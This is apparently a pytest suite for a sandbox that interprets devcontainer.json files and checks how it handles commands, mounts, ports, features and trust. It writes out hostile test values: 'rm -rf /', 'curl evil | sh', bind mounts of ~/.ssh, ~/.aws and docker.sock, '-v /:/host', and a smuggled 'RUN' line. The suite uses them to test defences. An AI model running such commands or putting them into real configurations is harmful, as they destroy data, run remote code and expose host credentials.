"""What a sandbox makes of a devcontainer.json, as data; nothing in it becomes an option or a path of ours."""

from __future__ import annotations

import json
import subprocess
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import settings as settings_of
from hypothesis import strategies as st

from git_sandbox.devcontainer import (
    agreed,
    commands,
    features,
    label,
    model,
    mounts,
    plan,
    ports,
    properties,
    run_args,
)
from git_sandbox.devcontainer.commands import Stage
from git_sandbox.devcontainer.features import Feature, Metadata, Reference
from git_sandbox.devcontainer.model import Command, Options
from git_sandbox.devcontainer.mounts import Folders
from git_sandbox.devcontainer.plan import Plan
from git_sandbox.errors import UsageError
from git_sandbox.image.guestfiles import GuestPlace
from git_sandbox.projectfile import Consent
from support.examples import examples

PLACE = ".devcontainer/devcontainer.json"
HOST = {"HOME": "/home/me", "TOKEN": "s3cret"}


def remembered(root: Path) -> Consent:
    return Consent(lambda: root, lambda: root, lambda: "0123")


def file(root: Path, table: Mapping[str, Any] | str, place: str = PLACE) -> agreed.File:
    (root / place).parent.mkdir(exist_ok=True, parents=True)
    (root / place).write_text(table if isinstance(table, str) else json.dumps(table))
    return agreed.read(root, place, remembered(root))


def planned(root: Path, **table: Any) -> Plan:
    (root / "my repo").mkdir(exist_ok=True)
    return file(root / "my repo", table).plan(HOST)


def test_nothing_asked_for_is_nothing_done(tmp_path: Path) -> None:
    folder = "/workspaces/my_repo"
    assert planned(tmp_path) == Plan(PLACE, folder, places=(GuestPlace(folder, "."),))


def test_the_environment(tmp_path: Path) -> None:
    made = planned(
        tmp_path,
        containerEnv={"A": "${localEnv:HOME}", "B": "${localEnv:NONE:x}", "C D": "1", "N": "a\nb"},
        remoteEnv={
            "PATH": "${containerEnv:PATH}:/opt",
            "GONE": None,
            "A2": "${containerEnv:A}",
            "F": "${containerWorkspaceFolder}",
        },
        runArgs=["-e", "R=1", "--env=S=2", "--memory=4g", "--gpus", "all", "--cap-add", "SYS_PTRACE"],
    )
    base = {"PATH": "/bin", "GONE": "1", "KEPT": "1"}
    assert made.environment(base) == {
        "A": "/home/me", "B": "x", "PATH": "/bin:/opt", "A2": "/home/me", "F": "/workspaces/my_repo",
        "R": "1", "S": "2",
    }  # fmt: skip
    assert made.notes == ("runArgs that have no meaning here: --memory, --gpus", "variables that cannot be set: C D, N")


def test_commands_in_their_order_and_forms(tmp_path: Path) -> None:
    made = planned(
        tmp_path, postStartCommand="-x; echo ${HOME} ${containerEnv:Q}",
        onCreateCommand=["npm", "ci", "${localEnv:HOME}"],
        postCreateCommand={"a": "exit 3", "b": ["sh", "-c", "exit 4"]}, postAttachCommand="serve",
        updateContentCommand="",
        initializeCommand="rm -rf /",
    )  # fmt: skip
    assert [(each.name, each.waited) for each in made.stages] == [
        ("onCreateCommand", True), ("postCreateCommand", True), ("postStartCommand", True),
        ("postAttachCommand", False),
    ]  # fmt: skip
    assert made.stages[0].words == ("npm", "ci", "/home/me")
    assert made.completed({"Q": "q"})[2].words == ("/bin/sh", "-c", "--", "-x; echo ${HOME} q")
    assert subprocess.run(made.stages[1].words, check=False).returncode == 3
    assert made.notes == (f"initializeCommand does nothing here: {properties.BY_NAME['initializeCommand'].text}",)


@pytest.mark.parametrize(
    ("wait", "waited"), [("onCreateCommand", 1), ("postCreateCommand", 3), ("", 4), ("initializeCommand", 0), ("x", 4)]
)
def test_what_is_waited_for(tmp_path: Path, wait: str, waited: int) -> None:
    table = dict.fromkeys((*commands.ONCE, *commands.EVERY_START), "true")
    made = planned(tmp_path, waitFor=wait, **table)
    assert [each.waited for each in made.stages] == [True] * waited + [False] * (5 - waited)


def test_several_at_once_end_when_all_have_with_the_first_failure(tmp_path: Path) -> None:
    order = tmp_path / "order"
    script: Command = {
        "a": f"while [ ! -e {order} ]; do sleep 0.01; done; exit 5",
        "b": f": > {order}; exit 6",
        "c": "true",
    }
    words = commands.spoken(script, str)
    assert subprocess.run(words, check=False, timeout=60).returncode == 5
    assert subprocess.run(commands.spoken({"a": "true", "b": ("true",)}, str), check=False).returncode == 0
    assert commands.spoken({}, str) == commands.spoken((), str) == commands.spoken(" ", str) == ()


FOLDERS = Folders("/home/me/repo", "/workspaces/repo")


@pytest.mark.parametrize(
    ("given_mount", "expected"),
    [
        ("source=cache,target=/home/x/.cache,type=volume", GuestPlace("/home/x/.cache")),
        ("type=tmpfs,destination=/scratch", GuestPlace("/scratch")),
        ("src=/home/me/repo/data,dst=/data,type=bind,consistency=cached,readonly", GuestPlace("/data", "data")),
        ("source=/home/me/repo,target=/code/,type=bind", GuestPlace("/code", ".")),
        ("source=node,target=/workspaces/repo/node_modules,type=volume", None),
        ("source=/home/me/repo/a,target=/workspaces/repo/a,type=bind", None),
        ("source=/home/me/repo/a,target=/workspaces/repo/b,type=bind", ValueError),
        ("source=/home/me/.ssh,target=/home/x/.ssh,type=bind", ValueError),
        ("source=/home/me/repo/../.ssh,target=/x,type=bind", ValueError),
        ("source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind", ValueError),
        ("source=/home/me/repository,target=/x,type=bind", ValueError),
        *((f"type=volume,target={each}", ValueError) for each in (
            "/", "/run/git-sandbox", "/proc", "/etc", "/dev/shm", "/workspace/x", "/a/../etc", "relative", "",
            "/a b", "/a\x1b",
            "//etc", "/usr/local/x",
        )),
        ("type=npipe,target=/x", ValueError), ("nonsense", ValueError), ("", ValueError),
    ],
)  # fmt: skip
def test_mounts(given_mount: str, expected: Any) -> None:
    if expected is ValueError:
        with pytest.raises(ValueError, match=r".") as caught:
            mounts.place(mounts.parsed(given_mount, str), FOLDERS)
        assert str(caught.value).isprintable()
        return
    assert mounts.place(mounts.parsed(given_mount, str), FOLDERS) == expected


@settings_of(max_examples=examples(300), deadline=None)
@given(st.text("abc./,= \n\0-", max_size=30), st.text("./ab ", max_size=20))
@example("type=bind,source=/home/me/repo/./../../x,target=/y", "/home/me/repo/..")
def test_no_mount_leads_out(text: str, source: str) -> None:
    for each in (text, f"type=bind,source=/home/me/repo/{source},target=/t", f"type=volume,target=/{source}"):
        try:
            made = mounts.place(mounts.parsed(each, str), FOLDERS)
        except ValueError:
            continue
        if made is not None:
            assert ".." not in (*made.path.split("/"), *made.source.split("/"))
            assert made.path.startswith("/")
            assert not made.source.startswith("/")
            assert all(mounts.inside(made.path, taken) is None for taken in mounts.TAKEN)


def test_mounts_that_are_left_out_are_named(tmp_path: Path) -> None:
    made = planned(
        tmp_path,
        mounts=["source=${localEnv:HOME}/.aws,target=/root/.aws,type=bind", {"type": "volume", "target": "/data"}],
        workspaceMount="source=${localWorkspaceFolder},target=/code,type=bind", workspaceFolder="/code",
    )  # fmt: skip
    assert made.folder == "/code"
    assert made.places == (GuestPlace("/code", "."), GuestPlace("/data"))
    assert made.notes[0].startswith(
        "mount source=${localEnv:HOME}/.aws,target=/root/.aws,type=bind: its source is outside"
    )


@pytest.mark.parametrize("folder", ["/", "/usr", "../x", "x y", "/a\nb", "/proc/self", "/workspaces/../etc", "-x"])
def test_folders_that_cannot_be(tmp_path: Path, folder: str) -> None:
    with pytest.raises(UsageError, match="cannot use"):
        planned(tmp_path, workspaceFolder=folder)


def test_ports() -> None:
    read = model.decode(
        b'{"forwardPorts": [3000, "8080", "db:5432", "localhost:6", 80], "appPort": ["9:10", 3000]}', "f"
    )[0]
    pairs, odd = ports.asked(read)
    assert (pairs, odd) == ([(3000, 3000), (8080, 8080), (6, 6), (80, 80), (9, 10)], ["db:5432"])
    found = list(ports.published(pairs, {8080}, lambda number: number != 3000))
    assert found == [
        ("3001:3000", "port 3000 of the guest is port 3001 here: 3000 is taken"),
        ("8081:8080", "port 8080 of the guest is port 8081 here: 8080 is taken"),
        ("1025:6", "port 6 of the guest is port 1025 here: 6 is taken"),
        ("1026:80", "port 80 of the guest is port 1026 here: 80 is taken"),
        ("1027:10", "port 10 of the guest is port 1027 here: 9 is taken"),
    ]
    assert list(ports.published([(65535, 65535)], set(), lambda _: False)) == [("", "port 65535 is taken")]
    bad = b'{"forwardPorts": [0, 70000, -1, "x", "1:70000", "\\u0663", "1:2:3"]}'
    assert ports.asked(model.decode(bad, "f")[0])[0] == []


def test_what_is_too_many_is_named(tmp_path: Path) -> None:
    made = planned(
        tmp_path,
        mounts=[f"type=volume,target=/d/{number}" for number in range(plan.MAX_PLACES + 1)],
        forwardPorts=list(range(2000, 2000 + ports.MAX_PORTS + 2)),
    )
    assert (len(made.places), len(made.ports)) == (plan.MAX_PLACES, ports.MAX_PORTS)
    assert made.notes[0] == "ports that are not forwarded: 2020, 2021"
    assert [each.partition(",")[0] for each in made.notes[1:]] == ["mount type=volume"] * 2


@pytest.mark.parametrize(
    ("user", "name", "noted"),
    [("vscode", "vscode", 0), ("${localEnv:WHO}", "me", 0), ("${localEnv:NONE}", "", 0), ("Dev", "", 1),
     ("1000:1000", "", 1), ("a\x1b b", "", 1)],
)  # fmt: skip
def test_a_user_that_cannot_be_is_named(tmp_path: Path, user: str, name: str, noted: int) -> None:
    for table in ({"remoteUser": user}, {"containerUser": user}):
        made = file(tmp_path, table).plan({"WHO": "me"})
        assert (made.user, len(made.notes)) == (name, noted)
        assert all(each.isprintable() and each.startswith("remoteUser ") for each in made.notes)


def test_options_of_features_have_variables(tmp_path: Path) -> None:
    asked = {"./f": {"v": "${localEnv:TOKEN}", "n": True}, "ghcr.io/x/y": "${localEnv:NONE:18}", "ghcr.io/x/z": False}
    (tmp_path / "my repo/.devcontainer/f").mkdir(parents=True)
    made = planned(tmp_path, features=asked)
    assert made.features == {"./f": {"v": "s3cret", "n": True}, "ghcr.io/x/y": "18", "ghcr.io/x/z": False}


def test_run_args_are_read_as_docker_does() -> None:
    words = [
        "--privileged",
        "--name",
        "-e",
        "-e",
        "A=-b",
        "--network=host",
        "-v",
        "/:/host",
        "-e",
        "TOKEN",
        "--init",
        "-e",
    ]
    assert run_args.read(words) == run_args.RunArgs(("A=-b",), ("--name", "--network", "-v", "-e", "-e"))


def test_what_the_host_should_have(tmp_path: Path) -> None:
    made = planned(tmp_path, hostRequirements={"cpus": 4, "memory": "8gb", "storage": "2097152kb", "gpu": True})
    assert (made.cpus, made.memory, made.storage) == (4, 8192, 2048)
    assert made.notes == ("hostRequirements.gpu does nothing here: a guest has no GPU",)
    assert planned(tmp_path, hostRequirements={"cpus": 10**9, "memory": "9" * 15 + "tb"}).memory == plan.MAX_MEBIBYTES
    with pytest.raises(UsageError, match="cannot use"):
        planned(tmp_path, hostRequirements={"memory": "lots"})


def test_builds(tmp_path: Path) -> None:
    for name in ("Dockerfile", "D"):
        place = tmp_path / "my repo/.devcontainer" / name
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text("FROM x\n")
    made = planned(
        tmp_path,
        build={
            "dockerfile": "Dockerfile",
            "context": "..",
            "args": {"A": "${localEnv:HOME}"},
            "target": "dev",
            "options": ["--x"],
        },
    )
    assert made.build == plan.BuildPlan(".devcontainer/Dockerfile", ".", "dev", {"A": "/home/me"}, b"FROM x\n")
    assert made.notes == ("build.options does nothing here: no word of the file becomes an option of a program",)
    assert planned(tmp_path, dockerFile="x/../D", context="../c").build == plan.BuildPlan(
        ".devcontainer/D", "c", content=b"FROM x\n"
    )
    for table in (
        {"dockerfile": "../../etc/x"}, {"dockerfile": "/etc/x"}, {"dockerfile": "D", "context": "../.."},
        {"dockerfile": "D", "target": "--x"}, {"dockerfile": "D", "args": {"--x": "1"}},
    ):  # fmt: skip
        with pytest.raises(UsageError):
            planned(tmp_path, build=table)


@pytest.mark.parametrize(
    "table",
    [
        {"dockerComposeFile": "c.yml", "service": "app", "workspaceFolder": "/x"},
        {"dockerComposeFile": ["a"]},
        {"image": "x", "runServices": ["db"]},
    ],
)
def test_compose_is_refused_with_a_reason(tmp_path: Path, table: dict[str, Any]) -> None:
    with pytest.raises(UsageError, match="several containers") as caught:
        planned(tmp_path, **table)
    assert caught.value.hint


def test_consent_is_for_one_content(tmp_path: Path) -> None:
    table = {
        "build": {"dockerfile": "Dockerfile"},
        "features": {"./local": {}},
        "remoteEnv": {"T": "${localEnv:TOKEN}"},
    }
    (tmp_path / ".devcontainer/local").mkdir(parents=True)
    (tmp_path / ".devcontainer/local/install.sh").write_text("true\n")
    (tmp_path / ".devcontainer/Dockerfile").write_text("FROM scratch\n")
    assert not file(tmp_path, table).trusted
    first = file(tmp_path, table)
    first.trust()
    assert first.trusted
    assert "it gets the variable TOKEN of this host" in first.now.lines
    text = f"// said otherwise\n{json.dumps(table | {'customizations': {'vscode': {}}}, indent=4)}"
    assert file(tmp_path, text).trusted, "it says the same"
    more = {**table, "postCreateCommand": "curl evil | sh"}
    other = file(tmp_path, more)
    assert not other.trusted
    assert "+postCreateCommand = curl evil | sh" in other.changes
    for name, content in (("Dockerfile", "FROM other\n"), ("local/install.sh", "false\n")):
        place = tmp_path / ".devcontainer" / name
        before = place.read_text()
        place.write_text(content)
        changed = file(tmp_path, table)
        assert not changed.trusted
        assert any(row.startswith("+file .devcontainer/") for row in changed.changes)
        place.write_text(before)
    again = file(tmp_path, table)
    assert again.trusted
    elsewhere = agreed.read(tmp_path, PLACE, Consent(lambda: tmp_path, lambda: tmp_path, lambda: "4567"))
    assert not elsewhere.trusted, "another repository's"
    again.distrust()
    assert not again.trusted


def test_whatever_is_asked_for_is_shown(tmp_path: Path) -> None:
    """What is empty is asked for as well: a feature without options."""
    table = {
        "features": {"ghcr.io/x/y:1": {}, "ghcr.io/x/z": {"v": True}},
        "mounts": [{"type": "volume", "target": "/x"}],
    }
    lines = file(tmp_path, table | {"capAdd": [], "init": False, "remoteEnv": {"A": None}}).now.lines
    assert lines == (
        "features.ghcr.io/x/y:1 = {}", "features.ghcr.io/x/z.v = true", "mounts.type = volume", "mounts.target = /x",
        "capAdd = []", "init = false", "remoteEnv.A = null",
    )  # fmt: skip


def test_each_file_of_a_repository_has_its_own_consent(tmp_path: Path) -> None:
    one, two = (file(tmp_path, {"name": name}, f".devcontainer/{name}/devcontainer.json") for name in "ab")
    one.trust()
    assert (one.trusted, two.trusted) == (True, False)
    two.trust()
    one.distrust()
    assert (one.trusted, two.trusted) == (False, True)


def test_what_it_names_outside_of_the_repository_is_not_even_looked_at(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    (tmp_path / "secret").write_text("x")
    (repo / "link").symlink_to("../secret")
    tables: tuple[dict[str, Any], ...] = (
        {"dockerFile": "../../secret"},
        {"dockerFile": "../link"},
        {"features": {"../../": {}}},
        {"dockerFile": "/etc/passwd"},
    )
    for table in tables:
        with pytest.raises(UsageError, match="out"):
            file(repo, table).trusted  # noqa: B018 - it looks


@settings_of(max_examples=examples(100), deadline=None)
@given(
    st.dictionaries(
        st.text(max_size=8),
        st.text(max_size=20) | st.integers() | st.lists(st.text(max_size=5), max_size=2),
        max_size=5,
    )
)
def test_what_somebody_agrees_to_is_printable(table: dict[str, Any]) -> None:
    read = agreed.File(Path("/nowhere"), PLACE, model.Devcontainer(), table, remembered(Path("/nowhere")))
    assert all(line.isprintable() for line in read.now.lines)


# --- features --------------------------------------------------------------------------------------------------------

Says = Mapping[str, tuple[Metadata, str]]


def known(**table: dict[str, Any]) -> features.Load:
    def load(reference: Reference) -> tuple[Metadata, str]:
        name = reference.name.rpartition("/")[2]
        return features.metadata(json.dumps({"id": name, **table.get(name, {})}).encode(), name), name

    return load


def order(asked: Mapping[str, Options], load: features.Load, override: tuple[str, ...] = ()) -> list[str]:
    return [each.metadata.id for each in features.ordered(asked, override, PLACE, load)]


def r(name: str) -> str:
    return f"ghcr.io/x/{name}"


def test_features_without_wishes_go_by_their_names() -> None:
    assert order({r("c:1"): {}, r("a"): {}, r("b:2"): {}}, known()) == ["a", "b", "c"]


def test_what_one_depends_on_is_installed_before_it() -> None:
    load = known(a={"dependsOn": {r("z:1"): {"flag": True}}}, z={"dependsOn": {r("y"): {}}})
    assert order({r("a"): {}, r("b"): {}}, load) == ["b", "y", "z", "a"]


def test_after_counts_only_for_what_is_there() -> None:
    load = known(a={"installsAfter": [r("b"), r("none")]}, b={"installsAfter": [r("c:3")]})
    assert order({r("a"): {}, r("b:1"): {}, r("c"): {}}, load) == ["c", "b", "a"]


def test_the_user_s_order_comes_before_the_names_and_after_the_needs() -> None:
    load = known(b={"dependsOn": {r("d"): {}}})
    asked: dict[str, Options] = {r(each): {} for each in "abc"}
    assert order(asked, load, (r("c"), r("b"))) == ["c", "a", "d", "b"]  # a and d are one round, by name


def test_circles_end() -> None:
    for load in (
        known(a={"dependsOn": {r("b"): {}}}, b={"dependsOn": {r("a"): {}}}),
        known(a={"dependsOn": {r("a"): {}}}),
    ):
        with pytest.raises(UsageError, match="depend on each other"):
            order({r("a"): {}}, load)
    endless = known(**{f"f{n}": {"dependsOn": {r(f"f{n + 1}"): {}}} for n in range(60)})
    with pytest.raises(UsageError, match="more than 50"):
        order({r("f0"): {}}, endless)


def test_one_with_other_options_is_another_one() -> None:
    load = known(a={"dependsOn": {r("c"): {"v": "1"}}}, b={"dependsOn": {r("c"): {"v": "2"}}})
    assert order({r("a"): {}, r("b"): {}, r("c"): {"v": "1"}}, load) == ["c", "c", "a", "b"]


def test_options_are_variables() -> None:
    says = features.metadata(
        b'{"id": "x", "options": {"version": {"type": "string", "default": "lts"}, "1-odd": {"type": "boolean",'
        b' "default": true},'
        b'"one": {"type": "string", "enum": ["a", "b"], "default": "a"}}}', "x",
    )  # fmt: skip
    made = Feature(Reference("x", "x"), says, "0", features.options({"one": "b", "more": False}, says, "x"))
    assert made.environment == {"VERSION": "lts", "_ODD": "true", "ONE": "b", "MORE": "false"}
    assert features.options("18", says, "x") == {"version": "18"}
    for bad in ({"one": "c"}, {"more": "a\nRUN x"}, {"more": "x" * 5000}):
        with pytest.raises(UsageError):
            features.options(bad, says, "x")  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "text",
    [
        "fish",
        "https://x.example/f.tgz",
        "-x",
        "../../../x",
        "ghcr.io",
        "a/b",
        "ghcr.io/x/y:",
        "ghcr.io/x/y z",
        "ghcr.io/x/../y",
        "GHCR.io/x",
    ],
)
def test_names_that_are_no_feature(text: str) -> None:
    with pytest.raises(UsageError):
        features.reference(text, PLACE)


def test_names_that_are() -> None:
    assert features.reference("./f", PLACE) == Reference("./f", ".devcontainer/f", local=True)
    assert features.reference("localhost:5000/a/b:1.2", PLACE) == Reference(
        "localhost:5000/a/b:1.2", "localhost:5000/a/b", tag="1.2"
    )
    digest = "sha256:" + "0" * 64
    assert features.reference(f"ghcr.io/a/b@{digest}", PLACE).digest == digest
    assert features.reference("ghcr.io/a/b", PLACE).tag == "latest"


# --- the label of an image -------------------------------------------------------------------------------------------

SNIPPETS = [
    {
        "id": "ghcr.io/x/common",
        "containerEnv": {"A": "of the image", "B": "b"},
        "postCreateCommand": "first",
        "mounts": ["x"],
    },
    {"remoteUser": "vscode", "remoteEnv": {"T": "${localEnv:TOKEN}|${containerWorkspaceFolder}"}, "forwardPorts": [22]},
]


def test_what_an_image_says_of_itself_counts_less_than_the_file() -> None:
    said = label.read(json.dumps(SNIPPETS))
    own = Plan(PLACE, "/w", env={"A": "own"}, stages=(Stage("postCreateCommand", ("second",), waited=True),))
    made = label.merged(own, said)
    assert (made.user, made.ports, made.places) == ("vscode", (), ())
    assert dict(made.env) == {"A": "own", "B": "b", "T": "|/w"}, "no variable of this host"
    run = commands.merged(tuple(label.commands(said)), made.stages, made.wait_for)
    assert [each.words[-1] for each in run] == ["first", "second"]
    assert label.merged(Plan(PLACE, "/w", user="me"), said).user == "me"
    assert label.read(json.dumps(SNIPPETS[1]))[0].remote_user == "vscode", "one alone, without a list"


@settings_of(max_examples=examples(100), deadline=None)
@given(st.text('[]{}":,abcremoteUser1\x1b\ud800', max_size=40) | st.just("[" * 40000))
@example('[{"remoteUser": 1}]')
@example('{"remoteUser": "-x", "containerEnv": {"a b": "c", "N": "x\\ny"}}')
def test_a_label_of_anybody_s_says_nothing_odd(text: str) -> None:
    made = label.merged(Plan(PLACE, "/w"), label.read(text))
    assert made.user == "" or plan.USER.fullmatch(made.user)
    assert all(plan.one_variable(name, value or "") for name, value in made.env.items())
